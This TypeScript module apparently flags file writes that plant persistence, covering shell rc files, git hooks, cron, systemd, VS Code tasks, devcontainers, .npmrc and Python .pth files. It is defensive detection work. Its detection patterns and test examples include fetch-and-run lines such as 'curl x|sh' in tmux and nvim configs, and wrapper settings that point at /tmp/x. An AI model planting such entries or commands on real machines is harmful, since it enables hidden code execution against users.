import type { Touch } from '../model/finding';
import type { PathContext, PathPack } from '../model/pathPack';
import { startsFromSettings } from './shared/homeSettings';
import { meaning } from './shared/meaning';
import { reachesAny } from './shared/reaches';

type Kind = { readonly rule: string; readonly targets: readonly string[]; readonly when: string };

/** Files that something else starts by itself, and what starts them. */
const KINDS: readonly Kind[] = [
  {
    rule: 'planted/shell-start',
    when: 'in every new shell',
    targets: [
      ...['.bashrc', '.bash_profile', '.bash_login', '.bash_logout', '.profile', '.bash_aliases', '.zshrc', '.zshenv'],
      ...['.zprofile', '.zlogin', '.zlogout', '.xprofile', '.xsessionrc', '.xinitrc', '.pam_environment', '.ssh/rc'],
      ...['.config/fish/config.fish', '.config/fish/conf.d', '.config/fish/functions', '.config/powershell'],
      ...['/etc/profile', '/etc/profile.d', '/etc/bash.bashrc', '/etc/zsh', '/etc/environment', '/etc/ld.so.preload'],
    ],
  },
  { rule: 'planted/git-hook', when: 'on git commands', targets: ['.git/hooks', '.husky'] },
  {
    rule: 'planted/schedule',
    when: 'on a schedule',
    targets: [
      ...[
        '/etc/crontab',
        '/etc/cron.d',
        '/etc/cron.hourly',
        '/etc/cron.daily',
        '/etc/cron.weekly',
        '/etc/cron.monthly',
      ],
      ...['/var/spool/cron', '/var/spool/at', '/etc/anacrontab'],
    ],
  },
  {
    rule: 'planted/service',
    when: 'when the machine or the session starts',
    targets: [
      ...[
        '/etc/systemd',
        '/lib/systemd/system',
        '/usr/lib/systemd/system',
        '.config/systemd/user',
        '.config/autostart',
      ],
      ...['/etc/init.d', '/etc/rc.local', 'Library/LaunchAgents', 'Library/LaunchDaemons', '/etc/xdg/autostart'],
      'Start Menu/Programs/Startup',
    ],
  },
  { rule: 'planted/folder-start', when: 'when a shell enters the folder', targets: ['.envrc'] },
  { rule: 'planted/device-start', when: 'when a device appears', targets: ['/etc/udev/rules.d'] },
  {
    rule: 'planted/interpreter-start',
    when: 'in every Python',
    targets: [
      ...['sitecustomize.py', 'usercustomize.py', 'site-packages/*.pth', 'dist-packages/*.pth'],
      '.ipython/profile_default/startup',
    ],
  },
];

/** Commands of everybody's day, which a file of their name in a person's own folder of programs comes before. */
const SHADOWED =
  /^(?:ls|cat|cp|mv|rm|cd|sudo|ssh|scp|git|curl|wget|grep|find|make|npm|node|python3?|pip3?|docker|kubectl|aws|terraform|gh|go|cargo|bash|sh|zsh|ps|su|env|vim|vi|less|man)$/;

/** Those of the system itself, which nobody installs anew where a shell looks before the system's own folders. */
const OF_SYSTEM = /^(?:ls|cat|cp|mv|rm|sudo|su|doas|ssh|scp|grep|find|bash|sh|ps|env|login|passwd|id|mount|systemctl)$/;

/** Whether a file of `/usr/local/bin` and the like comes before the system's own command of that name. */
function comesBefore(path: string): boolean {
  const program = /^\/usr\/local\/s?bin\/([^/]+)$/.exec(path)?.[1];
  return program !== undefined && OF_SYSTEM.test(program);
}

/** The path below somebody's home folder; null for one of a workspace, and for any other. */
function belowHome(path: string, { surroundings }: PathContext): string | null {
  if (surroundings.workspaces.some((folder) => path.startsWith(`${folder}/`))) return null;
  const somebodys = /^\/(?:(?:home|Users)\/[^/]+|root)(?=\/)/.exec(path)?.[0];
  const home = path.startsWith(`${surroundings.home}/`) ? surroundings.home : somebodys;
  return home === undefined ? null : path.slice(home.length + 1);
}

/** When something of a person's own settings starts what is written into them; null when it is none of these. */
function ofHome({ path }: Touch, context: PathContext): string | null {
  if (comesBefore(path)) return 'in place of a command';
  const inside = belowHome(path, context);
  if (inside === null) return null;
  const after = context.texts?.after ?? context.left ?? null;
  if (startsFromSettings(inside, context.texts?.before ?? null, after)) return 'by a program that reads it first';
  const program = /^(?:\.local\/)?bin\/([^/]+)$/.exec(inside)?.[1];
  return program !== undefined && SHADOWED.test(program) ? 'in place of a command' : null;
}

/** Whether `has` holds of what is new in the text; null where that is not known. */
function hasNew({ texts, left }: PathContext, has: (text: string) => boolean): boolean | null {
  if (texts === null) {
    return left === undefined || left === null ? null : has(left);
  }
  const { before, after } = texts;
  return after !== null && has(after) && !(before !== null && has(before));
}

/** A copy that nobody's shell reads: in a folder for what is only tried, and in nobody's home. */
function isTried(path: string, context: PathContext): boolean {
  return /^(?:\/private)?(?:\/var)?\/tmp\//.test(path) && belowHome(path, context) === null;
}

type ByText = {
  readonly rule: string;
  readonly when: string;
  readonly targets: readonly string[];
  readonly runs: RegExp;
  /** Most such files start nothing: a text that is not known says nothing either. */
  readonly seldom?: true;
};

/** Configuration that only now and then starts something: its text decides. */
const BY_TEXT: readonly ByText[] = [
  {
    rule: 'planted/git-setting',
    when: 'on git commands',
    targets: ['.git/config', '.gitconfig', '.config/git/config', '/etc/gitconfig'],
    // Keys of a git configuration whose value git starts as a program.
    runs: /^\s*(hookspath|sshcommand|fsmonitor|textconv|process|smudge|clean)|=\s*"?!/im,
  },
  { rule: 'planted/task', when: 'when the folder is opened', targets: ['.vscode/tasks.json'], runs: /folderOpen/ },
  {
    // The others run inside the container; what they fetch and run nobody has read all the same.
    rule: 'planted/container-start',
    when: 'when the folder is opened in a container',
    targets: ['.devcontainer', '.devcontainer.json'],
    runs: /"initializeCommand"\s*:|\b(?:curl|wget)\b[^"|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b/,
    seldom: true,
  },
  {
    rule: 'planted/settings',
    when: 'with every script of npm',
    targets: ['.npmrc'],
    runs: /^\s*(?:script-shell|node-options|git)\s*=/im,
    seldom: true,
  },
];

function byText(touch: Touch, context: PathContext): { rule: string; when: string; sure: boolean } | null {
  const one = BY_TEXT.find(({ targets }) => reachesAny(touch, targets));
  if (one === undefined || (/\/\.gitconfig$/.test(touch.path) && isTried(touch.path, context))) {
    return null;
  }
  // A git setting may reach further than these keys: of a line that is added not all is known.
  const known = one.seldom === true ? context : { ...context, left: null };
  const found = hasNew(known, (text) => one.runs.test(text));
  const isNone = found === false || (found === null && one.seldom === true);
  return isNone ? null : { rule: one.rule, when: one.when, sure: found === true };
}

/** Files through which something runs later without anybody starting it. */
export const plantedToRun: PathPack = {
  documentation: [
    'https://git-scm.com/docs/githooks',
    'https://code.visualstudio.com/docs/debugtest/tasks',
    'https://www.gnu.org/software/bash/manual/html_node/Bash-Startup-Files.html',
  ],
  review: (touch, context) => {
    if (touch.how !== 'write' || touch.path.endsWith('.sample')) {
      return [];
    }
    const known = KINDS.find(({ targets }) => reachesAny(touch, targets));
    const kind = known?.rule === 'planted/shell-start' && isTried(touch.path, context) ? undefined : known;
    const own = kind === undefined ? ofHome(touch, context) : null;
    const ofOne = own === null ? byText(touch, context) : { rule: 'planted/settings', when: own, sure: false };
    const found = kind === undefined ? ofOne : { ...kind, sure: true };
    if (found === null) {
      return [];
    }
    const certainty = found.sure ? 'certain' : 'possible';
    const says = `Plants something that runs ${found.when}: ${touch.path}`;
    return [meaning(touch, { rule: found.rule, effect: 'execute', severity: 'high', certainty, says })];
  },
  examples: {
    catches: [
      { path: '~/.bashrc', how: 'write', rule: 'planted/shell-start', effect: 'execute' },
      { path: '~/.config/fish/conf.d/x.fish', how: 'write', rule: 'planted/shell-start', effect: 'execute' },
      { path: './.git/hooks/pre-commit', how: 'write', rule: 'planted/git-hook', effect: 'execute' },
      { path: '/etc/cron.d/job', how: 'write', rule: 'planted/schedule', effect: 'execute' },
      { path: '~/.config/systemd/user/x.service', how: 'write', rule: 'planted/service', effect: 'execute' },
      {
        path: './.vscode/tasks.json',
        how: 'write',
        before: '{}',
        after: '{"runOn": "folderOpen"}',
        rule: 'planted/task',
        effect: 'execute',
      },
      { path: './.git/config', how: 'write', rule: 'planted/git-setting', effect: 'execute' },
      {
        ...{ path: '~/.local/lib/python3.12/site-packages/x.pth', how: 'write' },
        ...{ rule: 'planted/interpreter-start', effect: 'execute' },
      },
      {
        path: '~/.ipython/profile_default/startup/00.py',
        how: 'write',
        rule: 'planted/interpreter-start',
        effect: 'execute',
      },
      {
        path: 'C:/Users/dev/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat',
        how: 'write',
        rule: 'planted/service',
        effect: 'execute',
      },
      {
        ...{ path: '~/.vimrc', how: 'write', before: '', after: 'autocmd VimEnter * !sh /tmp/x' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
      {
        ...{ path: './.devcontainer/devcontainer.json', how: 'write', before: '{}' },
        ...{ after: '{"initializeCommand": "sh setup.sh"}', rule: 'planted/container-start', effect: 'execute' },
      },
      {
        ...{ path: './.npmrc', how: 'write', before: '', after: 'script-shell=/tmp/x' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
      { path: '~/.vimrc', how: 'write', rule: 'planted/settings', effect: 'execute' },
      { path: '~/.ssh/config', how: 'write', rule: 'planted/settings', effect: 'execute' },
      { path: '/usr/local/bin/sudo', how: 'write', rule: 'planted/settings', effect: 'execute' },
      { path: '~/.local/bin/ls', how: 'write', rule: 'planted/settings', effect: 'execute' },
      {
        ...{ path: '~/.config/nvim/init.lua', how: 'write', before: '', after: 'vim.fn.system("curl x|sh")' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
      {
        ...{ path: '~/.docker/config.json', how: 'write', before: '{}', after: '{"credsStore": "x"}' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
      {
        ...{ path: '~/.tmux.conf', how: 'write', before: 'set -g mouse on', after: 'run-shell "curl x|sh"' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
      {
        ...{ path: '~/.config/pip/pip.conf', how: 'write', before: '', after: 'index-url = https://x.example/simple' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
      {
        ...{ path: '~/.cargo/config.toml', how: 'write', before: '', after: '[build]\nrustc-wrapper = "/tmp/x"' },
        ...{ rule: 'planted/settings', effect: 'execute' },
      },
    ],
    leaves: [
      { path: './.vscode/tasks.json', how: 'write', before: '{}', after: '{"tasks": []}' },
      { path: './.git/hooks/pre-commit.sample', how: 'write' },
      { path: './.git/config', how: 'write', before: '', after: '[user]\n  name = Somebody' },
      { path: '~/.bashrc', how: 'read' },
      { path: '/tmp/before/.bashrc', how: 'write' },
      { path: '/tmp/before/.gitconfig', how: 'write' },
      { path: './.npmrc', how: 'write' },
      {
        path: './.devcontainer/devcontainer.json',
        how: 'write',
        before: '{}',
        after: '{"postCreateCommand": "npm ci"}',
      },
      { path: './dotfiles/.vimrc', how: 'write' },
      { path: '~/.local/bin/mytool', how: 'write' },
      { path: '/usr/local/bin/terraform', how: 'write' },
      { path: '~/.vimrc', how: 'write', before: '', after: 'set number\nsyntax on\ncolorscheme desert\nlet g:x = 1' },
      { path: '~/.config/nvim/init.lua', how: 'write', before: '', after: 'vim.opt.number = true\nrequire("plugins")' },
      { path: '~/.config/nvim/lazy-lock.json', how: 'write' },
      { path: '~/.docker/config.json', how: 'write' },
      { path: '~/.docker/config.json', how: 'write', before: '{}', after: '{"auths": {}, "credsStore": "desktop"}' },
      { path: '~/.ssh/config', how: 'write', before: '', after: 'Host web\n  HostName 10.0.0.1\n  User deploy' },
      { path: '~/.tmux.conf', how: 'write', before: '', after: 'set -g mouse on\nbind | split-window -h' },
      {
        path: '~/.inputrc',
        how: 'write',
        before: '',
        after: 'set completion-ignore-case on\n"\\e[A": history-search-backward',
      },
      { path: '~/.cargo/config.toml', how: 'write', before: '', after: '[build]\njobs = 4' },
      {
        path: '~/.config/pip/pip.conf',
        how: 'write',
        before: '',
        after: '[global]\nindex-url = https://pypi.org/simple',
      },
      { path: '~/.npmrc', how: 'write', before: '', after: 'save-exact=true' },
      { path: './src/cron.d/job.ts', how: 'write' },
    ],
  },
};
